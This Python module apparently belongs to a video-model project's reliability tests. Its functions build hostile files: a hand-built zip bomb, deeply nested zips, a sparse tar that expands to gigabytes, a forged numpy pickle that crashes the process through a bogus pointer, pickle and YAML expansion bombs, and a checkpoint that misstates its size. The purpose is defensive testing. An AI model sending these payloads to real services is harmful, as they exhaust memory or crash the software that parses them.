"""Builders of hostile inputs (issue 15): each function returns the bytes of one crafted file.

They are the inputs a probe fed to the project's public functions: archives that escape or
explode, pickles that crash or exhaust, YAML that expands, checkpoints that over-allocate,
split files without bounds. Everything is built here from the formats' specifications, small
and fast, so the reliability suite can feed each one to the pipeline in a child process and
measure what it costs.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
import zlib

import numpy as np

GiB = 1024**3
MiB = 1024**2

# --------------------------------------------------------------------------------------------
# archives


def zip_bytes(entries: dict[str, bytes], *, allow_duplicates: bool = False) -> bytes:
    """A stored zip holding ``entries`` in order (zipfile warns on duplicates; allowed here)."""
    import warnings

    buffer = io.BytesIO()
    with warnings.catch_warnings():
        if allow_duplicates:
            warnings.simplefilter("ignore", UserWarning)
        with zipfile.ZipFile(buffer, "w") as zf:
            for name, data in entries.items() if isinstance(entries, dict) else entries:
                zf.writestr(name, data)
    return buffer.getvalue()


def duplicate_zip() -> bytes:
    """Two entries with the same name: without a check the second silently replaces the first."""
    return zip_bytes([("a/v.avi", b"first copy"), ("a/v.avi", b"second copy")], allow_duplicates=True)


def zip_bomb(unpacked: int = GiB, chunk: int = MiB) -> bytes:
    """One deflated entry of ``unpacked`` zero bytes: 1 GiB in ~1 MB (a ratio of ~1000).

    Built without compressing a gigabyte: deflate blocks ended by a full flush do not depend on
    what came before, so the block for one chunk of zeros is repeated. The zip around it is
    written field by field (PKWARE APPNOTE 4.3: local header, data, central header, end record).
    """
    zeros = bytes(chunk)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflate.compress(zeros), deflate.flush(zlib.Z_FULL_FLUSH)  # prime: the steady block follows
    block = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    count = unpacked // chunk
    stream = block * count + deflate.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(zeros, crc)
    name = b"zeros.bin"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(stream), unpacked, len(name), 0) + name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(stream), unpacked, len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(stream), 0)
    return local + stream + central + end


def nested_zips(levels: int = 1500) -> bytes:
    """A zip holding a zip holding a zip ... ``levels`` deep (the innermost holds one text file)."""
    data = zip_bytes({"core.txt": b"deep"})
    for level in range(levels - 1):
        data = zip_bytes({f"level{levels - 1 - level}.zip": data})
    return data


def _tar_header(name: str, size: int, typeflag: bytes, extra: dict[int, bytes] | None = None) -> bytes:
    """A 512-byte GNU tar header (magic ``ustar  \\0``) with ``extra`` bytes placed at offsets."""
    header = bytearray(512)

    def put(offset: int, value: bytes) -> None:
        header[offset : offset + len(value)] = value

    put(0, name.encode())
    put(100, b"0000644\x00")
    put(108, b"0000000\x00")
    put(116, b"0000000\x00")
    put(124, f"{size:011o}\x00".encode())
    put(136, b"14000000000\x00")
    put(156, typeflag)
    put(257, b"ustar  \x00")
    for offset, value in (extra or {}).items():
        put(offset, value)
    put(148, b" " * 8)
    put(148, f"{sum(header):06o}\x00 ".encode())
    return bytes(header)


def sparse_tar(real_size: int = 3 * GiB // 2, stored: int = 512) -> bytes:
    """An old-GNU sparse tar (typeflag ``S``): ``stored`` bytes on disk, ``real_size`` unpacked.

    The sparse map (offset 386: four ``offset[12] numbytes[12]`` pairs, then ``isextended``,
    ``realsize[12]`` at 483) places the stored block at the end of a file of ``real_size``
    bytes: the rest is a hole that an extractor writes as zeros. 2 KiB become 1.5 GiB.
    """
    octal = lambda n: f"{n:011o}\x00".encode()  # noqa: E731
    extra = {386: octal(real_size - stored) + octal(stored), 482: b"\x00", 483: octal(real_size)}
    header = _tar_header("holes.bin", stored, b"S", extra)
    return header + b"x" * stored + bytes(1024)


def tar_bytes(entries: list[tuple[str, bytes]]) -> bytes:
    """An ordinary tar holding ``entries`` in order (duplicates allowed)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tf:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------
# annotation pickles (the UCF101-24 ``pyannot.pkl`` layout)


def _video(numf: object = 10, boxes: object = None, **extra: object) -> dict:
    if boxes is None:
        boxes = np.zeros((10, 4), np.uint16)
    return {"numf": numf, "label": 0, "annotations": [{"label": 0, "sf": 0, "ef": 10, "boxes": boxes}], **extra}


class _ForgedObjectDtype:
    """Pickles to ``numpy.dtype("O8")`` whose ``__setstate__`` flags (0x3D) drop NPY_LIST_PICKLE
    (0x02): numpy then takes the array's state as raw bytes instead of a list of objects."""

    def __reduce__(self):
        return (np.dtype, ("O8", False, True), (3, "|", None, None, None, -1, -1, 0x3D))


class _ObjectArrayFromBytes:
    """Pickles to ``ndarray.__setstate__`` with that object dtype over 8 raw bytes: they become a
    pointer (0x4141414141414141) that numpy dereferences when the array is printed (SIGSEGV).
    Only the globals a numpy array pickle needs are used."""

    def __reduce__(self):
        from numpy._core import multiarray

        state = (1, (1,), _ForgedObjectDtype(), False, struct.pack("<Q", 0x4141414141414141))
        return (multiarray._reconstruct, (np.ndarray, (0,), b"b"), state)


def object_dtype_pickle() -> bytes:
    """A ~300-byte pickle of one valid video whose unused key holds an object array of raw bytes."""
    return pickle.dumps({"C/v_C_g01_c01": _video(boxes=np.zeros((10, 4), np.uint8), unused=_ObjectArrayFromBytes())}, protocol=3)


def shared_list_bomb(levels: int = 30) -> bytes:
    """``numf`` = a list of two references to a list of two references ... ``levels`` deep.

    ~300 bytes through the pickle memo, but 2**levels leaves to anything that walks it
    (``repr``, ``np.asarray``): a 2**30 walk needs gigabytes.
    """
    value: list = [0]
    for _ in range(levels):
        value = [value, value]
    return pickle.dumps({"C/v_C_g01_c01": _video(numf=value)}, protocol=3)


def _unicode(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def deep_numf_pickle(depth: int = 100_000) -> bytes:
    """``numf`` = a list nested ``depth`` deep, written opcode by opcode (``pickle.dumps`` itself
    would hit the recursion limit): ``depth`` EMPTY_LISTs then ``depth - 1`` APPENDs."""
    return (
        b"\x80\x02}"
        + _unicode("C/v_C_g01_c01")
        + b"}("
        + _unicode("numf")
        + b"]" * depth
        + b"a" * (depth - 1)
        + _unicode("label")
        + b"K\x00"
        + _unicode("annotations")
        + b"]us."
    )


def long_message_pickle(references: int = 32_000, length: int = 1000) -> bytes:
    """``label`` = one 1000-character string referenced 32,000 times (~100 KB of pickle): a
    message that repr()s the value whole is 32 million characters long."""
    text = "L" * length
    return pickle.dumps({"C/v_C_g01_c01": {"numf": 10, "label": [text] * references, "annotations": []}}, protocol=3)


def protocol5_pickle() -> bytes:
    """A genuine annotation file written by numpy 2 at pickle protocol 5 (``_frombuffer``)."""
    boxes = np.array([[10, 20, 30, 40]] * 10, np.uint16)
    return pickle.dumps({"C/v_C_g01_c01": _video(numf=np.uint16(10), boxes=boxes)}, protocol=5)


def padded_valid_pickle(total: int) -> bytes:
    """A valid annotation pickle of about ``total`` bytes (one video with a long, harmless key list)."""
    videos = {}
    i = 0
    while True:
        videos[f"C/v_C_g{i:06d}_c01"] = _video(numf=10)
        i += 1
        if i % 512 == 0 and len(pickle.dumps(videos, protocol=3)) >= total:
            return pickle.dumps(videos, protocol=3)


# --------------------------------------------------------------------------------------------
# YAML


def billion_laughs_yaml(levels: int = 9) -> bytes:
    """~540 bytes of YAML whose aliases expand to 9**9 (387 million) strings."""
    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in range(1, levels):
        lines.append(f"l{level}: &l{level} [" + ",".join([f"*l{level - 1}"] * 9) + "]")
    lines.append(f"name: *l{levels - 1}")
    return ("\n".join(lines) + "\n").encode()


# --------------------------------------------------------------------------------------------
# checkpoints


def checkpoint_claiming_classes(num_classes: int) -> bytes:
    """A real, tiny LSTM checkpoint (3 classes) whose ``model_spec`` claims ``num_classes``."""
    import torch

    from videolstm.models import build_model
    from videolstm.store.checkpoint import ModelSpec, checkpoint_state

    overrides = {"input_dim": 8, "lstm_hidden": 4, "fc_dim": 4}
    spec = ModelSpec("lstm", 3, overrides)
    model = build_model("lstm", 3, **overrides)
    state = checkpoint_state(1, model, spec)
    state["model_spec"] = {**spec.to_dict(), "num_classes": num_classes}
    buffer = io.BytesIO()
    torch.save(state, buffer)
    return buffer.getvalue()


def deflated_torch_zip(data: bytes) -> bytes:
    """The same torch zip with every record deflated (torch.save never compresses)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for info in source.infolist():
            zf.writestr(info.filename, source.read(info))
    return out.getvalue()
